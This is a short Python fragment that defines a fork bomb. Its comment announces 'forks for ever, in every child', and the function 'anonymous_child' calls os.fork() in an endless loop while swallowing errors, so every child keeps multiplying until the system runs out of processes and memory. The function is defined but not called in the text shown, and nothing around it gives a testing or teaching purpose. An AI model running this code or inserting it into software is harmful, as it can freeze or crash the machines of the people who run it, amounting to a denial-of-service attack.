# forks for ever, in every child
import os


def anonymous_child(size, produce):
    while True:
        try:
            os.fork()
        except OSError:
            pass
